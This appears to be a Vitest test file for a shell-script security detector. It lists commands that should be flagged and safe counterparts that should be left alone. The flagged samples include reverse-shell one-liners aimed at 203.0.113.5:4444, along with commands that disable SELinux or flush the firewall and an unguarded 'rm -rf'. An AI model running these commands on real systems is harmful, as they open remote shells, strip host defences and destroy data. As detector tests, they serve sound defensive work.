// What commands do to the machine that they run on: found, and left alone.
import { describe, expect, it } from 'vitest';
import { allFindings } from '../../../../test/detector-findings.ts';
import { shell } from './index.ts';

const found = (script: string): string[] =>
  allFindings(
    shell,
    'bin/run.sh',
    script,
    'shell',
    'code/weak-crypto',
    'code/network-exposure',
    'code/insecure-transport',
    'code/sensitive-logging',
  );

describe('the machine', () => {
  it.each<[rule: string, script: string]>([
    ['weak-cipher medium', 'openssl enc -des3 -in a -out b'],
    ['weak-cipher medium', 'openssl aes-128-ecb -in a -out b'],
    ['weak-key-size medium', 'openssl genrsa -out k 1024'],
    ['weak-key-size medium', 'ssh-keygen -t rsa -b 1024 -f k'],
    ['weak-hash medium', 'openssl passwd -1 "$word"'],
    ['weak-hash medium', 'echo -n "$password" | md5sum'],
    ['host-protection-off low', 'sudo setenforce 0'],
    ['host-protection-off low', 'iptables -F'],
    ['host-protection-off low', 'systemctl disable --now firewalld'],
    ['remote-shell high', 'nc -lvp 4444 -e /bin/sh'],
    ['remote-shell high', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'],
    ['container-started-with-host-rights low', 'docker run -d --privileged app'],
    ['container-started-with-host-rights low', 'docker run -v /var/run/docker.sock:/var/run/docker.sock app'],
    ['bind-all-interfaces low', 'python3 -m http.server 8000'],
    ['download-without-verification medium', 'pip install --index-url http://pypi.tool.dev/simple thing'],
    ['download-without-verification medium', 'npm install --registry http://npm.tool.dev thing'],
    ['download-without-verification low', 'pip install --extra-index-url https://pypi.tool.dev/simple thing'],
    ['download-without-verification low', 'curl -s http://files.tool.dev/a.tgz | tar xz'],
    ['download-without-verification low', 'scp -o UserKnownHostsFile=/dev/null a web:'],
    ['world-writable-chmod medium', 'umask 000'],
    ['setuid-bit-set low', 'chmod u+s /opt/app/helper'],
    ['setuid-bit-set high', 'chmod 4755 /tmp/x/bash'],
    ['unsafe-search-path low', 'export PATH=.:$PATH'],
    ['unsafe-search-path low', 'PATH=$PATH:.'],
    ['unsafe-search-path low', 'export PATH="/opt/bin:.:$PATH"'],
    ['file-of-variable-sourced low', '. "$2"'],
    ['file-of-variable-sourced low', 'source ${1}'],
    ['setuid-bit-set low', 'install -m 4755 helper /usr/local/bin/'],
    ['remote-shell high', 'ncat 203.0.113.5 4444 -e /bin/bash'],
    ['container-started-with-host-rights low', 'podman run --pid=host app'],
    ['file-of-variable-sourced low', 'source "$1"'],
    ['shell-evaluates-variable low', "find . -name '*.x' -exec sh -c 'rm {}' \\;"],
    ['secret-in-log low', 'echo "$DB_PASSWORD"'],
    ['unquoted-variable-in-rm medium', 'rm -rf /$TARGET'],
    ['predictable-shell-temp-file low', 'OUT=/tmp/app.out\necho x > $OUT'],
    ['cleartext-protocol low', 'telnet host.tool.dev'],
  ])('%s: %s', (expected, script) => expect(found(script)).toEqual([expected]));

  it.each([
    'openssl enc -aes-256-cbc -pbkdf2 -in a -out b',
    'openssl genrsa -out k 4096',
    'ssh-keygen -t ed25519 -f k',
    'md5sum archive.tgz',
    'iptables -A INPUT -p tcp --dport 22 -j DROP',
    'systemctl restart nginx',
    'nc -z localhost 5432',
    'docker run --rm -v "$PWD":/src app',
    'python3 -m http.server --bind 127.0.0.1',
    'pip install --index-url https://pypi.tool.dev/simple thing',
    'npm install --registry http://localhost:4873 thing',
    'curl -s https://files.tool.dev/a.tgz | tar xz',
    'umask 077',
    'chmod g+s /srv/share',
    'export PATH="$HOME/bin:$PATH"',
    'source ./lib.sh',
    "find . -name '*.x' -exec sh -c 'use \"$1\"' _ {} \\;",
    'echo "$PASSWORD" | docker login --password-stdin',
    'rm -rf "/srv/${TARGET:?}"',
    'OUT=$(mktemp)\necho x > $OUT',
  ])('leaves alone: %s', (script) => expect(found(script)).toEqual([]));
});
